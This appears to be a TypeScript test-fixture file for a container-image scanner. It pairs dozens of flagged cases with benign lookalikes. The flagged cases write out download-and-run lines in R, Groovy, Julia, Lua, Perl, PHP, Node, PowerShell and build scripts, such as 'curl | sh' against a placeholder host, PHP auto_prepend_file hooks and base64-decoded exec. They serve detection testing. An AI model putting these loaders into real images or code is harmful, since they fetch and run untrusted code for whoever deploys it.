import { base64, type Files, type ImageCase, image } from './image-case.ts';

const URL = 'https://files.backend.example/u';
const FETCH = `curl -s ${URL} | sh`;
const SHELL_CODE = `system("${FETCH}")\n`;

function words(...Entrypoint: string[]): ImageCase {
  return { name: Entrypoint.join(' '), spec: image({}, { Entrypoint }), rule: 'start/download-and-run' };
}

function inApp(line: string, files: Files, Env?: readonly string[]): ImageCase {
  const [path = '', file] = Object.entries(files)[0] ?? [];
  return {
    name: `${line}: ${typeof file === 'string' ? file.slice(0, 50) : ''} ${Object.keys(files).length} ${path}`,
    spec: image(files, {
      Entrypoint: line.split(' '),
      WorkingDir: '/app',
      ...(Env && { Env: ['PATH=/usr/bin:/bin', ...Env] }),
    }),
    rule: 'start/download-and-run',
  };
}

const OK: Files = { 'var/www/html/index.php': '<?php echo 1;\n', 'opt/p.inc': `<?php system("${FETCH}");\n` };

/** Programs of languages that few scanners read, and files that programs load as their own whatever they are called. All inert. */
export const OTHER_LANGUAGES: readonly ImageCase[] = [
  words('Rscript', '-e', `source("${URL}.R")`),
  inApp('Rscript x.R', { 'app/x.R': `eval(parse(url("${URL}")))\n` }),
  inApp('Rscript x.R', {
    'app/x.R': `download.file("${URL}", "/tmp/x")\nSys.chmod("/tmp/x", "755")\nsystem("/tmp/x")\n`,
  }),
  words('groovy', '-e', `evaluate(new URL("${URL}").text)`),
  words('groovy', `${URL}.groovy`),
  inApp('groovy x.groovy', { 'app/x.groovy': `new GroovyShell().evaluate(new URL('${URL}').text)\n` }),
  words('julia', '-e', `include(download("${URL}"))`),
  inApp('julia x.jl', { 'app/x.jl': `code = String(HTTP.get("${URL}").body)\ninclude_string(Main, code)\n` }),
  inApp('lua x.lua', { 'app/x.lua': `load(io.popen("curl -s ${URL}"):read("*a"))()\n` }),
  inApp('lua x.lua', {
    'app/x.lua': `local http = require("socket.http")\nlocal b = http.request("${URL}")\nassert(loadstring(b))()\n`,
  }),
  inApp('lua x.lua', { 'app/x.lua': 'dofile("/opt/d.dat")\n', 'opt/d.dat': `os.execute("${FETCH}")\n` }),
  inApp('perl x.pl', { 'app/x.pl': `eval \`curl -s ${URL}\`;\n` }),
  inApp('perl x.pl', { 'app/x.pl': 'do "/opt/d.dat";\n', 'opt/d.dat': `${SHELL_CODE.trim()};\n` }),
  inApp('ruby x.rb', { 'app/x.rb': "load '/opt/d.dat'\n", 'opt/d.dat': SHELL_CODE }),
  inApp('python3 a.py', {
    'app/a.py': 'import runpy\nrunpy.run_path("/opt/d.dat")\n',
    'opt/d.dat': `import os\nos.${SHELL_CODE}`,
  }),
  inApp('python3 a.py', {
    'app/a.py': 'exec(open("/opt/d.dat").read())\n',
    'opt/d.dat': `import os\nos.${SHELL_CODE}`,
  }),
  inApp('python3 a.py', { 'app/a.py': 'import os\nexec(os.environ["BOOT"])\n' }, [
    `BOOT=import os;os.system("${FETCH}")`,
  ]),
  inApp('node a.js', {
    'app/a.js': 'require("/opt/d.txt")\n',
    'opt/d.txt': `require("child_process").execSync("${FETCH}")\n`,
  }),
  words('node', '-e', `fetch("${URL}").then(async r=>{(0,eval)(await r.text())})`),
  words(
    'node',
    '-e',
    `require("https").get("${URL}",r=>{let b="";r.on("data",d=>b+=d);r.on("end",()=>require("vm").runInThisContext(b))})`,
  ),
  words('deno', `${URL}.ts`),
  words('bun', `${URL}.ts`),
  words('uv', 'run', `${URL}.py`),
  words('npm', 'exec', '--', `${URL}.tgz`),
  inApp('php x.php', { 'app/x.php': `<?php include '${URL}';\n` }),
  inApp('apache2-foreground', { 'var/www/html/.user.ini': 'auto_prepend_file=/opt/p.inc\n', ...OK }),
  inApp('apache2-foreground', {
    'var/www/html/.htaccess': 'php_value auto_prepend_file "/opt/p.inc"\n',
    ...OK,
  }),
  inApp('php-fpm', {
    'usr/local/etc/php-fpm.d/www.conf': '[www]\nphp_admin_value[auto_prepend_file] = /opt/p.inc\n',
    ...OK,
  }),
  inApp('tclsh x.tcl', { 'app/x.tcl': `package require http\neval [http::data [http::geturl ${URL}]]\n` }),
  inApp('tclsh x.tcl', { 'app/x.tcl': 'source /opt/d.dat\n', 'opt/d.dat': `exec sh -c {${FETCH}}\n` }),
  inApp('scala x.sc', { 'app/x.sc': `import sys.process._\nSeq("sh", "-c", "${FETCH}").!\n` }),
  inApp('kotlinc -script x.kts', {
    'app/x.kts': `Runtime.getRuntime().exec(arrayOf("sh", "-c", "${FETCH}"))\n`,
  }),
  inApp('gradle run', {
    'app/build.gradle': `task run(type: Exec) {\n  commandLine 'sh', '-c', '${FETCH}'\n}\n`,
  }),
  inApp('go run x.go', {
    'app/x.go': `package main\nimport "os/exec"\nfunc main() { exec.Command("sh", "-c", "${FETCH}").Run() }\n`,
  }),
  inApp('cargo run', {
    'app/build.rs': `fn main() {\n  std::process::Command::new("sh")\n    .arg("-c")\n    .arg("${FETCH}").spawn();\n}\n`,
  }),
  words('pwsh', '-c', `iex (irm ${URL})`),
  words('pwsh', '-EncodedCommand', Buffer.from(`irm ${URL} | iex`, 'utf16le').toString('base64')),
  inApp('pwsh -File x.ps1', { 'app/x.ps1': `Invoke-Expression (Invoke-WebRequest ${URL}).Content\n` }),
  inApp('deno task go', { 'app/deno.json': JSON.stringify({ tasks: { go: FETCH } }) }),
  inApp('node --run go', { 'app/package.json': JSON.stringify({ scripts: { go: FETCH } }) }),
  {
    name: 'ONBUILD ENTRYPOINT',
    spec: image({}, { Cmd: ['nginx'], OnBuild: [`ENTRYPOINT ["sh", "-c", "${FETCH}"]`] }),
    rule: 'start/download-and-run',
  },
  {
    name: 'code of ENV, decoded by a program',
    spec: image(
      { 'app/a.py': 'import os, base64\nexec(base64.b64decode(os.environ["BOOT"]))\n' },
      {
        Entrypoint: ['python3', '/app/a.py'],
        Env: [`BOOT=${base64('import time\nwhile True:\n    time.sleep(1000)\n    print("still here")\n')}`],
      },
    ),
    rule: 'start/decode-and-run',
  },
  {
    name: 'R that evaluates what it decodes',
    spec: image(
      {
        'app/x.R': `eval(parse(text = rawToChar(base64enc::base64decode("${base64('x <- 1; y <- function(n) n + 1; print(y(x)); Sys.sleep(1000)')}"))))\n`,
      },
      { Entrypoint: ['Rscript', '/app/x.R'] },
    ),
    rule: 'start/decode-and-run',
  },
];

function honest(name: string, line: string, files: Files): ImageCase {
  return { name, spec: image(files, { Entrypoint: line.split(' '), WorkingDir: '/app' }) };
}

/** The same languages, as applications use them. */
export const OTHER_LANGUAGE_TWINS: readonly ImageCase[] = [
  honest('R that reads data of an address and its own files', 'Rscript x.R', {
    'app/x.R':
      'source("/app/lib.R")\nd <- read.csv(url("https://data.example/x.csv"))\ndownload.file("https://data.example/y.csv", "/tmp/y.csv")\nf <- eval(parse(text = "x + 1"))\nsystem("date")\n',
    'app/lib.R': 'plus <- function(a) a + 1\n# source("https://x.example/a.R")\n',
  }),
  honest('Julia that includes its own', 'julia x.jl', {
    'app/x.jl':
      'include("lib.jl")\nusing HTTP\nr = HTTP.get("https://api.example/v1")\nprintln(String(r.body))\n',
    'app/lib.jl': 'f(x) = x + 1\n',
  }),
  honest('Groovy that asks an address', 'groovy x.groovy', {
    'app/x.groovy':
      'def t = new URL("https://api.example/v1").text\nprintln t\nevaluate(new File("/app/y.groovy"))\n',
    'app/y.groovy': 'println 1\n',
  }),
  honest('Tcl that sources its own', 'tclsh x.tcl', {
    'app/x.tcl':
      'source /app/lib.dat\npackage require http\nputs [http::data [http::geturl https://api.example/v1]]\neval [list puts 1]\n',
    'app/lib.dat': 'proc f {x} { return $x }\n',
  }),
  honest('Lua, Perl and Ruby that load settings', 'sh start.sh', {
    'app/start.sh':
      '#!/bin/sh\nlua /app/x.lua\nperl /app/x.pl\nruby /app/x.rb\ndeno run -A /app/m.ts https://api.example/v1\ngroovy /app/g.groovy https://api.example\nexec node /app/a.js\n',
    'app/x.lua':
      'dofile("/app/settings.conf")\nlocal f = load("return 1 + 1")\nlocal http = require("socket.http")\nprint(http.request("https://api.example/v1"))\n',
    'app/settings.conf': 'port = 8080\nhint = "curl -s https://get.example/i | sh"\n',
    'app/x.pl': 'my $c = do "/app/c.conf";\neval { die "x" };\nmy $x = `curl -s https://api.example/v1`;\n',
    'app/c.conf': '{ port => 80 }\n',
    'app/x.rb': "load '/app/tasks'\n",
    'app/tasks': 'puts 1\n',
    'app/m.ts': 'console.log(Deno.args);\n',
    'app/g.groovy': 'println args\n',
    'app/a.js':
      'const vm = require("vm");\nvm.runInNewContext("1 + 1");\nfetch("https://api.example/v1").then((r) => r.json()).then(console.log);\nconst m = require("/app/data.dat");\n(0, eval)("this");\n',
    'app/data.dat': 'module.exports = { a: 1 };\n',
  }),
  honest('PHP whose pages are prepended', 'apache2-foreground', {
    'var/www/html/.user.ini': 'auto_prepend_file=/var/www/wordfence-waf.php\nmemory_limit = 128M\n',
    'var/www/wordfence-waf.php':
      '<?php if (file_exists("/var/www/html/w.php")) include_once "/var/www/html/w.php";\n',
    'var/www/html/index.php':
      '<?php require __DIR__ . "/a.php"; $d = file_get_contents("https://api.example/v1");\n',
    'var/www/html/a.php': '<?php echo 1;\n',
  }),
  honest('PowerShell that asks an address', 'pwsh -File x.ps1', {
    'app/x.ps1':
      '# iex (irm https://x.example)\n$r = Invoke-RestMethod https://api.example/v1\nWrite-Output $r\n. ./lib.ps1\n',
    'app/lib.ps1': 'function F { 1 }\n',
  }),
  {
    name: 'a task beside that nothing asks for, and code that the user gives',
    spec: image(
      {
        'app/deno.json': JSON.stringify({ tasks: { start: 'deno run -A m.ts', setup: FETCH } }),
        'app/m.ts': 'console.log(1);\n',
        'app/b.py': 'import os, base64\nexec(base64.b64decode(os.environ["BOOT"]))\n',
      },
      {
        Entrypoint: ['sh', '-c', 'python3 /app/b.py; exec deno task start'],
        WorkingDir: '/app',
        Env: ['PATH=/usr/bin:/bin', `PYTHON_SHA256=${'0123456789abcdef'.repeat(4)}`],
      },
    ),
  },
  honest('builds that start', 'sh start.sh', {
    'app/start.sh': '#!/bin/sh\ncargo run &\ngo run x.go &\nexec gradle run\n',
    'app/build.rs':
      'fn main() {\n  std::process::Command::new("git")\n    .args(["rev-parse", "HEAD"]).output();\n}\n',
    'app/x.go': 'package main\nimport "os/exec"\nfunc main() { exec.Command("date", "-u").Run() }\n',
    'app/build.gradle':
      "plugins { id 'application' }\ntask x(type: Exec) {\n  commandLine 'npm', 'run', 'build'\n}\n",
  }),
];
